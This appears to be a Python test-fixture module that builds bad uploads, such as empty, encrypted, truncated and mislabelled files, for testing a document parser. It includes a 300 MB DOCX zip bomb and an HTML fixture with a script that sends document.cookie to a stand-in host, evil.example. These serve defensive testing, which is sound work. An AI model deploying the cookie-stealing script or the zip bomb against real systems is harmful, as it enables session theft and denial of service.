"""Bad and hostile uploads, built as bytes: each function returns (filename, data).

Shared by the parser's unit tests and the end-to-end ingestion tests; `ALL` lists the
builders that take no argument.
"""

import functools
import io
import zipfile


def text_pdf(text: str = "Travel policy. Trips abroad need the director's approval.") -> bytes:
    """A small valid PDF with a text layer, the raw material of the broken ones."""
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, invariant=True)
    pdf.drawString(72, 720, text)
    pdf.save()
    return buffer.getvalue()


def empty_file() -> tuple[str, bytes]:
    return "empty.md", b""


def whitespace_only_text() -> tuple[str, bytes]:
    return "blank.txt", b"  \n\n\t \r\n   \n"


def oversized_file(limit: int) -> tuple[str, bytes]:
    return "huge.txt", b"All work and no play. " * (limit // 22 + 1)


def encrypted_pdf() -> tuple[str, bytes]:
    return "locked.pdf", _encrypted(user_password="secret")


def owner_locked_pdf() -> bytes:
    """Encrypted with an owner password only (no copying or printing): anyone can open it,
    so it is not a bad file; the parser must read it."""
    return _encrypted(user_password="")


def _encrypted(*, user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(text_pdf())))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_without_text() -> tuple[str, bytes]:
    """What a scanner produces, as far as text goes: pages with no text layer."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return "scan.pdf", buffer.getvalue()


def corrupt_pdf() -> tuple[str, bytes]:
    data = text_pdf()
    return "truncated.pdf", data[: len(data) // 3]


def garbled_pdf() -> tuple[str, bytes]:
    """Complete (it ends with %%EOF) but with its objects overwritten by junk."""
    data = text_pdf()
    return "garbled.pdf", data[:9] + bytes(range(256)) * 8 + data[-200:]


@functools.cache
def _bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            block = b"\0" * (1 << 20)
            for _ in range(300):  # 300 MB inflated, about 300 KB on disk
                part.write(block)
    return buffer.getvalue()


def docx_zip_bomb() -> tuple[str, bytes]:
    return "bomb.docx", _bomb()


def corrupt_docx() -> tuple[str, bytes]:
    """A valid zip with a Word part, but not a Word package."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<not-closed")
    return "broken.docx", buffer.getvalue()


def truncated_docx() -> tuple[str, bytes]:
    import docx

    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Quarterly report")
    document.save(buffer)
    return "cut.docx", buffer.getvalue()[:4000]


def password_protected_docx() -> tuple[str, bytes]:
    """Word saves a password-protected .docx as an OLE compound file, like an old .doc."""
    return "protected.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def pdf_named_docx() -> tuple[str, bytes]:
    return "report.docx", text_pdf()


def text_named_docx() -> tuple[str, bytes]:
    return "minutes.docx", b"Minutes of the board meeting, 3 March.\n"


def zip_named_pdf() -> tuple[str, bytes]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "not a PDF")
    return "invoice.pdf", buffer.getvalue()


def exe_named_txt() -> tuple[str, bytes]:
    return "notes.txt", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(range(256)) * 4


def undecodable_text() -> tuple[str, bytes]:
    """High bytes that no encoding reads as text (no NUL, so it is not sniffed as binary)."""
    return "notes.txt", bytes(range(128, 256)) * 4


def script_only_html() -> tuple[str, bytes]:
    page = b"<html><head><script>fetch('https://evil.example/steal?c='+document.cookie)</script></head>"
    page += b"<body><script>alert(1)</script><style>body{}</style><iframe src='x'></iframe>"
    page += b"<!-- nothing to read --><div onclick='alert(2)'></div></body></html>"
    return "page.html", page


def unsupported_extension() -> tuple[str, bytes]:
    return "tool.exe", b"MZ\x90\x00"


ALL = [
    empty_file,
    whitespace_only_text,
    encrypted_pdf,
    pdf_without_text,
    corrupt_pdf,
    garbled_pdf,
    docx_zip_bomb,
    corrupt_docx,
    truncated_docx,
    password_protected_docx,
    pdf_named_docx,
    text_named_docx,
    zip_named_pdf,
    exe_named_txt,
    undecodable_text,
    script_only_html,
    unsupported_extension,
]
